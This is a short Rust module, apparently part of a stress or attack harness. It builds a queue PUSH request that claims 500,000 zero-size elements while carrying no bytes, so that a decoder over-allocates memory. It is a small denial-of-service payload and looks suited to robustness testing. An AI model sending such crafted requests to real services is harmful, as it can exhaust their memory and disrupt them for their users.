//! A list of structs without fields takes no bytes, however many it says it has. Who decodes it, or makes room for as many
//! answers, does so for half a million.

use std::io;
use std::time::Duration;

use super::greed::{self, Request};
use crate::bodies::push;
use crate::field::Field;
use crate::{PUSH, QUEUES};

const CLAIMED: u32 = 500_000;

pub(super) fn sally(field: &Field) -> io::Result<()> {
    greed::strike(field, 1, 200, Duration::from_millis(10), |_| Request {
        interface: QUEUES,
        method: PUSH,
        body: push(CLAIMED, &[]),
    })
}
